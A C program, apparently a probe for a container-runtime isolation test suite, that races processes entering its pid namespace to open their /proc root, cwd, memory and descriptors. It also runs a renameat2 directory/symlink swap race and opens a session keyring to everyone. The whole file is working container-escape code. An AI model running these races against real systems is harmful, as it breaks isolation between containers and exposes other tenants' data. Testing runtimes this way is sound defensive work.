/*
 * racer.c - what an attacker runs in a container whose pid namespace others join: looks for each new process whether
 * its root, its working directory or its descriptors can be opened, as long as it lives.
 *
 * "racer DIRECTORY TARGET", on the host: swaps the directory "a" and the symlink "b" to TARGET in DIRECTORY for ever,
 * as another container may in a shared volume.
 *
 * "racer KEYRING": joins that session keyring, lets everybody in, prints its number and waits; "racer ''" prints the
 * number of the one that it has.
 *
 * Prints "ready", then a line "reached PID COMM WHAT" for each success.  Needs nothing of the image.
 */
#include <dirent.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <linux/keyctl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

/* Pids come in order: those behind the newest are the next to appear. */
#define LOOK_AHEAD 6
#define TRIES 2000
#define FDS 12

static void report(int pid, const char *what)
{
	char path[64], name[64] = "";
	ssize_t length;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	fd = open(path, O_RDONLY);
	length = fd >= 0 ? read(fd, name, sizeof(name) - 1) : 0;
	if (length > 0)
		name[length - 1] = '\0';
	close(fd);
	/* It has ended since, and nobody knows what it was. */
	if (length <= 0)
		return;
	printf("reached %d %s %s\n", pid, name, what);
	fflush(stdout);
}

/* Whether /proc/PID/WHAT leads to a directory that is not the racer's own root. */
static void try_directory(int pid, const char *what)
{
	struct stat own, found;
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/%s/.", pid, what);
	fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0)
		return;
	if (stat("/", &own) == 0 && fstat(fd, &found) == 0 &&
	    (own.st_dev != found.st_dev || own.st_ino != found.st_ino))
		report(pid, what);
	close(fd);
}

static void try_file(int pid, const char *what, int flags)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, what);
	fd = open(path, flags | O_CLOEXEC);
	if (fd < 0)
		return;
	report(pid, what);
	close(fd);
}

static void try_fds(int pid)
{
	char what[16];

	for (int fd = 0; fd < FDS; fd++) {
		snprintf(what, sizeof(what), "fd/%d", fd);
		try_file(pid, what, O_PATH);
	}
}

static int swap(const char *directory, const char *target)
{
	if (chdir(directory) < 0 || mkdir("a", 0755) < 0 || mkdir("a/inner", 0755) < 0 || symlink(target, "b") < 0) {
		perror(directory);
		return 1;
	}
	for (;;)
		(void)syscall(SYS_renameat2, AT_FDCWD, "a", AT_FDCWD, "b", RENAME_EXCHANGE);
}

static int keyring(const char *name)
{
	if (*name && (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, name) < 0 ||
		      syscall(SYS_keyctl, KEYCTL_SETPERM, KEY_SPEC_SESSION_KEYRING, 0x3f3f3f3f) < 0)) {
		perror(name);
		return 1;
	}
	printf("keyring %ld\n", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0));
	fflush(stdout);
	if (*name)
		pause();
	return 0;
}

int main(int argc, char **argv)
{
	int next = getpid() + 1;

	puts("ready");
	fflush(stdout);
	if (argc == 2)
		return keyring(argv[1]);
	if (argc == 3)
		return swap(argv[1], argv[2]);
	for (;;) {
		for (int pid = next; pid < next + LOOK_AHEAD; pid++) {
			char path[32];

			snprintf(path, sizeof(path), "/proc/%d", pid);
			if (access(path, F_OK) < 0)
				continue;
			for (int i = 0; i < TRIES && access(path, F_OK) == 0; i++) {
				try_directory(pid, "root");
				try_directory(pid, "cwd");
				try_file(pid, "mem", O_RDWR);
				try_fds(pid);
			}
			next = access(path, F_OK) == 0 ? pid : pid + 1;
		}
	}
}
